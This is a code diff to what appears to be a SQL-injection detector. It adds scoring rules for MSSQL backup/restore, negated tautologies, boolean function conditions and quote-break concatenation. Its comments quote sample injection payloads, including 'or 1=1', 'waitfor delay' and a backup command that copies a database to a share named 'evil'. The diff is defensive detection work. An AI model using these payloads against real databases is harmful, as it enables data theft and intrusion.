@@ -173,6 +173,10 @@ export function statementAt(ts: Token[], i: number): { strength: number; to: num
       // declare @b, declare @b varchar(8000), declare @t table: certain when a type, a terminator or nothing follows
       if (a?.t !== 'v') return none;
       return { strength: !b || b.t === ';' || b.t === ',' || b.v === '=' || isKw(b, 'as') || isKw(b, 'table') || isKw(b, 'cursor') || MSSQL_TYPES.has(b.v) ? 2 : 1, to: i + 2 };
+    case 'backup':
+    case 'restore':
+      // backup database master to disk='\\evil\x.bak': copies a database out (or in)
+      return (isKw(a, 'database') || a?.v === 'log') && b && (b.t === 'n' || b.t === 'v') && (ts[i + 3]?.v === 'to' || ts[i + 3]?.v === 'from') ? { strength: 2, to: i + 4 } : none;
     case 'shutdown':
       return ends(a) || isKw(a, 'with') ? { strength: 2, to: i + 1 } : none;
     case 'waitfor':
@@ -361,8 +365,8 @@ export function analyze(ts: Token[], broke: boolean, commentEnd: boolean, out: S
           const whole = i === 0 && !broke && !cut && wholeStatement(ts, st.to);
           // a whole statement is SQL as data (a saved query, a snippet): 4, so it blocks from paranoia 2 (fields that
           // should not carry code); hex literals and alternating case make it an evasion
-          // (declare @b on its own declares nothing a saved query would use: a probe for MSSQL)
-          const data = i === 0 && !broke && !cut && t.v !== 'declare' && !ts.some((x) => x.mixed || (x.t === '1' && x.v.startsWith('0x')));
+          // (declare @b on its own declares nothing a saved query would use: a probe for MSSQL; nor does waitfor delay)
+          const data = i === 0 && !broke && !cut && t.v !== 'declare' && t.v !== 'waitfor' && !ts.some((x) => x.mixed || (x.t === '1' && x.v.startsWith('0x')));
           if (st.strength === 2) out.push({ rule: i > 0 && ts[i - 1]!.t === '(' ? 'sqli.subquery' : 'sqli.statement', score: data && (!sqlish || whole) ? 4 : 5, from: i, to: st.to, data: data && (!sqlish || whole) });
           // in (select * from, exists (select x from: a subquery cut where the application's table follows
           // (certain when the list is code, select * or select count(*), and the value ends right there)
@@ -375,7 +379,7 @@ export function analyze(ts: Token[], broke: boolean, commentEnd: boolean, out: S
         const prev = ts[i - 1];
         if (i === 0 && !broke) {
           // a value that starts with a logic operator: "or 1=1", "and 1=2"
-          const end = tautologyAt(ts, 1);
+          const end = tautologyAt(ts, ts[1]?.v === 'not' || ts[1]?.v === '!' ? 2 : 1);
           if (end > 0) out.push({ rule: 'sqli.tautology', score: 5, from: 0, to: end });
           else if (isLiteral(ts[1]) && ts[2]?.t === 'o' && ts[3] && (isLiteral(ts[3]) || ts[3]!.t === 'n' || ts[3]!.t === '(' || ts[3]!.t === 'f')) out.push({ rule: 'sqli.boolean-expression', score: 5, from: 0, to: 4 });
           // or 1#, or 1-- -: a condition that comments out the rest of the query
@@ -397,7 +401,8 @@ export function analyze(ts: Token[], broke: boolean, commentEnd: boolean, out: S
           break;
         }
         if (!prev || !(isLiteral(prev) || prev.t === ')' || prev.t === 'n')) break;
-        const end = tautologyAt(ts, i + 1);
+        // (1 and not 1=2: the negated comparison, the other half of a boolean-blind pair)
+        const end = tautologyAt(ts, ts[i + 1]?.v === 'not' || ts[i + 1]?.v === '!' ? i + 2 : i + 1);
         if (end > 0 && (prev.t !== 'n' || i === 1 || broke)) {
           out.push({ rule: 'sqli.tautology', score: 5, from: Math.max(0, i - 1), to: end });
           break;
@@ -405,7 +410,7 @@ export function analyze(ts: Token[], broke: boolean, commentEnd: boolean, out: S
         const nx = ts[i + 1];
         // 1 and length(database())>5, 1 and chr(65)||chr(66)='AB': a call compared with an operand is a condition
         const compared = nx?.t === 'f' ? callCompared(ts, i + 1) : false;
-        if (nx?.t === 'f' && (compared || TIME_FUNCTIONS.has(nx.v) || DANGEROUS.has(nx.v) || !AMBIGUOUS_FUNCTIONS.has(nx.v))) out.push({ rule: 'sqli.boolean-function', score: compared ? 5 : 4, from: i - 1, to: i + 2 });
+        if (nx?.t === 'f' && (compared || TIME_FUNCTIONS.has(nx.v) || DANGEROUS.has(nx.v) || !AMBIGUOUS_FUNCTIONS.has(nx.v))) out.push({ rule: 'sqli.boolean-function', score: compared || (i === 1 && lead?.t === '1' && !AMBIGUOUS_FUNCTIONS.has(nx.v) && term(ts, i + 1) >= n) ? 5 : 4, from: i - 1, to: i + 2 });
         else if (nx?.t === '(' && ts[i + 2]?.t === 'E') out.push({ rule: 'sqli.boolean-subquery', score: 5, from: i - 1, to: i + 3 });
         // 1 or 2, 1 xor 1, 1 or true: certain with xor or a boolean literal (not how prose counts)
         else if (lead?.t === '1' && i === 1 && isLiteral(nx) && (ts[i + 2]?.t === 'o' || !ts[i + 2])) out.push({ rule: 'sqli.boolean-numeric', score: t.v === 'xor' || nx!.v === 'true' || nx!.v === 'false' ? 5 : 4, from: 0, to: i + 3 });
@@ -548,6 +553,8 @@ function breakout(ts: Token[], commentEnd: boolean, out: SqlSignal[]): void {
   if (next.t === 'o' && (next.v === '||' || next.v === '+' || next.v === '|')) {
     const after = ts[i + 1];
     if (after && (after.t === '(' || after.t === 'f' || after.t === 'E' || after.t === 'v')) out.push({ rule: 'sqli.string-break-concat', score: 5, from: 0, to: i + 2 });
+    // ad'+'min, adm'||'in: a word rebuilt from two literals, the second completed by the application's closing quote
+    else if (after?.t === 's' && after.open && i === 1 && ts.length === 3 && ts[0]!.v.length > 0 && !ts[0]!.v.includes(' ') && !after.v.includes(' ')) out.push({ rule: 'sqli.string-break-concat', score: 5, from: 0, to: 3 });
   }
   if (next.t === 'o' && commentEnd && ts.length - i <= 5) out.push({ rule: 'sqli.string-break-operator', score: 5, from: 0, to: ts.length });
   // '=', 'like': the value is a comparison between the application's two quoted halves (always true for name=''=''); '-',
